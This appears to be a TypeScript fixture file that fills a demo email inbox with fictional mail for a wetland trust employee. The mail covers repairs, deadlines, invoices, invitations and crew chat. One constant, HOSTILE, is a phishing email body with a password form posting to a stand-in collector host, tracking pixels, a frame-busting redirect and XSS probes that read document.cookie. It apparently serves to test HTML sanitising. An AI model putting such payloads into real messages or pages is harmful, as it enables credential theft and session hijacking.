import { smallPdf, type Letter } from './letter';
import { FUND_CALL, SECTION_C } from './invitations';
import type { Around } from './world';

const HOUR = 3_600_000;

const HOSTILE = `<html><head><style>body{background:url(https://spade-and-sons.example/t.gif)} *{position:fixed;top:0}</style><script>window.top.location='https://spade-and-sons.example'</script></head>
<body onload="alert(1)"><div style="position:fixed;inset:0;z-index:9999"><h2>Your tool account</h2><p>Please confirm your address within 24 hours or lose your points.</p>
<form action="https://spade-and-sons.example/collect"><input name="password"><button>Confirm</button></form><img src="https://spade-and-sons.example/pixel.gif" width="1" height="1" alt="">
<a href="javascript:alert(document.cookie)">Confirm here</a><svg onload="alert(2)"><script>alert(3)</script></svg></div></body></html>`;

/** What waits in the demo inbox as mail, oldest first. Hours are counted back from the demo's now. */
export function waitingLetters(around: Around, now: number): Letter[] {
  const ago = (hours: number) => now - hours * HOUR;
  const { long, short, weekday, deutsch } = {
    long: around.long.bind(around),
    short: around.short.bind(around),
    weekday: around.weekday.bind(around),
    deutsch: around.deutsch.bind(around),
  };
  return [
    {
      from: 'owner',
      at: ago(24),
      subject: 'Gatter am Nordweg',
      text: `Liebe Frau Holt,\n\ndas Gatter am Nordweg klemmt seit dem Sturm und die Kühe vom Nachbarn stehen schon daran. Könnten Sie uns bitte bis ${deutsch(7)} sagen, wer die Reparatur bezahlt? Ein Blick darauf dauert keine halbe Stunde.\n\nMit freundlichen Grüßen\nKarl Moos`,
    },
    {
      from: 'county',
      at: ago(40),
      subject: 'Gauge 14: readings for the county',
      files: [
        {
          name: 'gauge-14-form.pdf',
          type: 'application/pdf',
          content: smallPdf(['Gauge 14: return of raw readings', 'County Hydrology']),
        },
      ],
      text: `Hello Maren,\n\nthank you for the walk along the north bank last week. Could you send us the raw readings of gauge 14 by ${long(9)}? We close the books that evening and cannot move it. Pulling them from the logger took my predecessor about three quarters of an hour.\n\nPlease also tell me who will have the key to the hut from September on.\n\nThe readings from March are fine as they are.\n\nBest regards\nTomas Rieger`,
      html: `<p>Hello Maren,</p><p>thank you for the walk along the north bank last week. Could you send us the <b>raw readings of gauge 14</b> by ${long(9)}? We close the books that evening and cannot move it. Pulling them from the logger took my predecessor about three quarters of an hour.</p><p>Please also tell me who will have the key to the hut from September on.</p><p>The readings from March are fine as they are.</p><p>Best regards<br>Tomas Rieger</p><img src="https://county-water.example/crest.png"><img src="https://county-water.example/open.gif">`,
    },
    {
      from: 'crew',
      at: ago(30),
      subject: 'Field crew, yesterday evening',
      stoodIn: true,
      text: `Jonas: who left the waders in the hut, they smell like a dead heron\nMina: not mine, mine smell worse\nJonas: pump 2 needs a new hose before ${weekday(3)}, Maren can you order one? 40 mm, ten metres\nMina: also the heron says hi\nLuk: Maren, could you also ask the school how many children come on the 2nd volunteer day?\nMina: bring cake`,
    },
    {
      from: 'contractor',
      at: ago(27),
      subject: 'Boardwalk section C: we would like to move the site meeting',
      invitation: {
        method: 'REQUEST',
        uid: SECTION_C,
        sequence: 1,
        title: 'Boardwalk section C on site',
        place: 'Section C',
        from: 'contractor',
        day: 2,
        start: '14:00',
        end: '15:00',
      },
      text: `Hello Maren,\n\nour crane is late, so can we meet on ${long(2)} at 14:00 at section C instead? It takes an hour at most.\n\nRegards\nInes Aalto`,
    },
    {
      from: 'tracker',
      at: ago(26),
      subject: 'Card ready: Order larch decking, 48 m',
      stoodIn: true,
      text: `Order larch decking, 48 m\n\nBoardwalk board · Ready · assigned to Maren Holt\nSteps: confirm profile with contractor; order with delivery to the north gate.\nEstimate: 45 min`,
    },
    {
      from: 'funder',
      at: ago(25),
      subject: 'Interim report: template and dates',
      files: [
        {
          name: 'interim-report-template.pdf',
          type: 'application/pdf',
          content: smallPdf(['Interim report', '1 Results  2 Figures  3 Budget']),
        },
        { name: 'budget.csv', type: 'text/csv', content: 'line,planned,spent\nboardwalk,24000,9100\nseeds,3200,2950\n' },
      ],
      text: `Dear Maren,\n\nattached is the template for the interim report. The deadline is ${long(18)}, and no extension is possible this year because our board meets the day after.\n\nPlease send me a short outline by ${short(6)}, so that I can tell you early if something is missing. Most people need about two hours for it.\n\nKind regards\nRuth Okafor\nFund for Wet Places`,
    },
    {
      from: 'director',
      at: ago(52),
      subject: 'Board papers',
      text: `Maren,\n\ncan you write half a page on the boardwalk for the board papers? I need it by ${weekday(2)} noon. Half an hour should do.\n\nThanks\nOda`,
    },
    {
      from: 'neighbour',
      at: ago(23),
      subject: 'Question about the ditch',
      text: `Hello,\n\nthe ditch behind our lower field is full again. Could someone from the trust have a look before the next rain? I am at home on ${weekday(3)} after 15:00.\n\nBest wishes\nHanna Vogt`,
    },
    {
      from: 'letter',
      newsletter: true,
      at: ago(22.5),
      subject: 'Fen & Field Letter: a good year for bitterns',
      text: `A good year for bitterns\n\nThree new pairs in the lower valleys, and what the reed cutters did differently.\n\nWhat is on: reed day on ${long(12)}.\n\nUnsubscribe: https://fen-field-letter.example/leave`,
    },
    {
      from: 'books',
      at: ago(22),
      subject: 'Invoice 2231 from Aalto Timber',
      files: [
        {
          name: 'invoice-2231.pdf',
          type: 'application/pdf',
          content: smallPdf(['Invoice 2231', 'Larch decking, first delivery', '4 180.00']),
        },
      ],
      text: `Hi Maren,\n\nplease check the attached invoice against the delivery note and sign it. It is due on ${short(8)} and must not be late, they give us two percent off.\n\nEmil`,
    },
    {
      from: 'permits',
      at: ago(21),
      subject: 'Your application 88-114: document missing',
      text: `Dear Ms Holt,\n\nfor your application 88-114 (mowing in the reed zone) the map in scale 1:1000 is missing. Please submit it no later than ${long(5)}; otherwise the application lapses by law.\n\nCounty Permit Office`,
    },
    {
      from: 'volunteers',
      at: ago(20.5),
      subject: 'Volunteer day: minibus',
      text: `Hi Maren,\n\n18 people have signed up, so the minibus is enough. Could you book it for ${long(8)}, 8:30 to 16:00? And who has the keys?\n\nPia`,
    },
    {
      from: 'halifax',
      at: ago(20),
      subject: 'Call about the salt marsh comparison',
      text: `Hi Maren,\n\nshall we talk on ${long(1)} at 15:00 your time? I would show you the first plots, 45 minutes are enough. Link: https://meet.tide-lab.example/marsh\n\nCheers\nLea`,
    },
    {
      from: 'seeds',
      at: ago(19.5),
      subject: 'Plugs for spring',
      text: `Dear customer,\n\nthe list of plug plants for spring is out. If you order before ${short(15)}, we hold this year's prices.\n\nSedge & Seed`,
    },
    {
      from: 'lead',
      at: ago(19),
      subject: 'Re: Mowing plan',
      text: `Maren, looks good. Two things: please move the north strip to week 2 of the plan, and tell me which mower we get.\n\nJonas\n\nOn Monday Maren Holt wrote:\n> Here is the mowing plan.\n> Could you check it by Friday?`,
    },
    { from: 'offers', at: ago(18), newsletter: true, subject: 'Confirm your tool account', text: '', html: HOSTILE },
    {
      from: 'lead',
      at: ago(17.5),
      subject: 'Site walk, reed zone, every two weeks',
      invitation: {
        method: 'REQUEST',
        uid: 'site-walk-reed-zone@alderfen.example',
        sequence: 0,
        title: 'Site walk, reed zone',
        place: 'Gate 5',
        from: 'lead',
        day: 6,
        start: '13:00',
        end: '14:00',
        rrule: 'FREQ=WEEKLY;INTERVAL=2',
      },
      text: `Maren, I would like us to walk the reed zone together every two weeks until the autumn, first on ${long(6)} at 13:00. Does that work for you?\n\nJonas`,
    },
    {
      from: 'choir',
      at: ago(17),
      subject: 'Rehearsal moved',
      text: `Dear all,\n\nthe rehearsal is on ${long(4)} at 19:30 in the old school this time.\n\nGerd`,
    },
    {
      from: 'director',
      at: ago(16.5),
      subject: 'Fwd: Query from the paper',
      text: `\n\n---------- Forwarded message ----------\nFrom: Dana Frost <dana.frost@valley-paper.example>\nDate: yesterday\nSubject: Query\nTo: Oda Lindqvist <oda.lindqvist@alderfen.example>\n\nDear Ms Lindqvist,\n\ncould somebody tell me how many metres of boardwalk are closed, and until when? We go to print on ${long(2)}.\n\nDana Frost`,
    },
    {
      from: 'contractor',
      at: ago(16),
      subject: 'Quote for the handrail',
      goesOnWith: 'Boardwalk: ',
      files: [
        {
          name: 'quote-handrail.pdf',
          type: 'application/pdf',
          content: smallPdf(['Quote: handrail, section C', '62 m, oak', '3 940.00']),
        },
      ],
      text: `Hello Maren,\n\nattached is our quote for the handrail. The price holds until ${short(10)}. Please let me know whether you want oak or larch.\n\nRegards\nInes Aalto\n\nOn ${long(-1)} Maren Holt wrote:\n> Dear Ines, that is on our list. While you are at it:\n> what would a handrail along section C cost, 62 m?\n>\n> Maren`,
    },
    {
      from: 'school',
      at: ago(8),
      subject: 'Pond day with class 4b',
      text: `Dear Ms Holt,\n\nwe would love to come with 24 children. Would ${long(13)} at 9:00 suit you? It takes about two hours. Do you have nets for everybody?\n\nWarm regards\nVera Stein`,
    },
    {
      from: 'tracker',
      at: ago(7.5),
      subject: 'Comment on: Close section C with fence',
      stoodIn: true,
      text: 'Jonas Brandl wrote: The fence is up, sign is missing. Maren, can you print two signs A3? 15 min.',
    },
    {
      from: 'books',
      at: ago(7),
      subject: 'Timesheets',
      stoodIn: true,
      text: `Hi,\n\nI still need your timesheet for last month. Could you send it today? Ten minutes, promise.\n\nEmil`,
    },
    {
      from: 'county',
      at: ago(6.5),
      subject: 'Re: Key to gauge hut',
      text: `Hello Maren,\n\nthe key is with the lock keeper. Nothing you need to do.\n\nTomas Rieger`,
    },
    {
      from: 'letter',
      newsletter: true,
      at: ago(6),
      subject: 'Fen & Field Letter: extra issue on peat',
      text: `Extra issue: what peat keeps, in twelve pictures.\n\nUnsubscribe: https://fen-field-letter.example/leave`,
    },
    {
      from: 'funder',
      at: ago(5.5),
      subject: 'Cancelled: call with the fund',
      invitation: {
        method: 'CANCEL',
        uid: FUND_CALL,
        sequence: 1,
        title: 'Call with the fund',
        place: '',
        from: 'funder',
        day: 4,
        start: '10:30',
        end: '11:00',
      },
      text: `Dear Maren,\n\nI have to cancel our call on ${long(4)}. The outline is all I need for now.\n\nKind regards\nRuth Okafor`,
    },
    {
      from: 'funder',
      at: ago(5),
      subject: 'Question on budget line 4',
      text: `Dear Maren,\n\nin budget line 4 you planned 3 200 for seeds and spent 2 950. Did you mean to move the rest to the boardwalk? I need an answer by ${long(3)}.\n\nKind regards\nRuth`,
    },
    {
      from: 'neighbour',
      at: ago(4.5),
      subject: 'Dog on the boardwalk',
      stoodIn: true,
      text: `Hello,\n\nthere was a loose dog near the lapwings again. I just wanted you to know.\n\nHanna Vogt`,
    },
    {
      from: 'lead',
      at: ago(4),
      subject: 'Pump 2',
      text: `Maren, pump 2 is running again with the old hose, but not for long. Please order the new one today, it must be here before ${weekday(3)}. Jonas`,
    },
    {
      from: 'permits',
      at: ago(3.5),
      subject: 'Hearing on the water level',
      text: `Dear Ms Holt,\n\nthe public hearing on the summer water level takes place on ${long(10)} at 17:00 in the county hall, room 12. If you want to speak, please register by ${short(7)}.\n\nCounty Permit Office`,
    },
    {
      from: 'director',
      at: ago(3),
      subject: 'Lunch with the mayor',
      text: `Maren, the mayor can do lunch on ${long(6)} at 12:30. Would you join us? Oda`,
    },
    {
      from: 'seeds',
      at: ago(2),
      subject: 'Your order 5512 has been sent',
      newsletter: true,
      text: `Your order 5512 (sedge plugs, 400) has been sent and will arrive on ${weekday(1)}.\n\nThis is an automatic message.`,
    },
    {
      from: 'owner',
      at: ago(1.5),
      subject: 'Nachtrag: Schlüssel',
      text: `Liebe Frau Holt,\n\nden Schlüssel zum Gatter brauche ich bis ${deutsch(4)} zurück. Bitte legen Sie ihn in den Kasten am Tor.\n\nKarl Moos`,
    },
    {
      from: 'lead',
      at: ago(0.8),
      subject: 'Notes from the crew meeting',
      text: `Crew meeting, notes\n\n- Mina counts the orchids until ${weekday(4)}\n- Maren: please get a price for 200 m of rope\n- Maren: call the school about the nets, 10 min\n- next meeting ${long(5)}, 8:30\n\nJonas`,
    },
  ];
}

/** Thoughts typed into the inbox, with their age in hours. */
export const TYPED_THOUGHTS: { text: string; hours: number }[] = [
  { text: 'ask Pia about the minibus keys', hours: 18.5 },
  { text: 'photos for the leaflet, the ones with fog', hours: 15 },
  { text: 'new batteries for the logger #site', hours: 9 },
  { text: 'present for Jonas, 10 years at the trust', hours: 1 },
];
